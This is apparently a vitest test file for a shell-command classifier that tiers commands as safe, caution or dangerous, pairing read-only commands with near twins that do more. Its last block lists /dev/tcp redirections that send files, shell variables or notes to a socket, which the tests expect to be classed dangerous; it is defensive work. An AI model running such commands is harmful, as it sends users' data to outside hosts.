// Commands that only read, in spellings that look like more, beside near twins that do more.
import { describe, expect, test } from 'vitest';
import { classify } from '#server/terminal/classify/classify.ts';

const PAIRS: readonly [about: string, reads: readonly string[], more: readonly string[]][] = [
	[
		'the history is listed, or run again',
		['fc -l -10', 'fc -ln 1 5', 'history 5'],
		['fc', 'fc -s ls=cat', 'fc -e vim 3', 'history -c']
	],
	[
		'a command in every submodule',
		["git submodule foreach 'git status -s'", 'git submodule foreach --recursive git status'],
		["git submodule foreach 'git checkout main'", 'git submodule foreach "$CMD"']
	],
	[
		'-o of a git reader is no file',
		['git ls-files -o --exclude-standard', 'git grep -o foo'],
		['git diff --output=x', 'git format-patch -o out HEAD~2']
	]
];

for (const [about, reads, more] of PAIRS)
	describe(about, () => {
		for (const command of reads) test(command, () => expect(classify(command).tier).toBe('safe'));
		for (const command of more) test(command, () => expect(classify(command).tier).not.toBe('safe'));
	});

describe('a shell socket that nothing is sent through', () => {
	test('is a look at a port', () => {
		for (const command of ['cat < /dev/null > /dev/tcp/192.0.2.1/80', 'echo > /dev/tcp/192.0.2.1/22'])
			expect(classify(command).tier).toBe('caution');
	});
	test('anything that may be sent is dangerous', () => {
		for (const command of [
			'echo x > /dev/tcp/192.0.2.1/22',
			'cat < f > /dev/tcp/192.0.2.1/22',
			'cat > /dev/tcp/192.0.2.1/22',
			'{ declare -p; :; } > /dev/tcp/192.0.2.1/22',
			'exec 3>/dev/tcp/192.0.2.1/22; cat notes >&3'
		])
			expect(classify(command).tier).toBe('dangerous');
	});
});
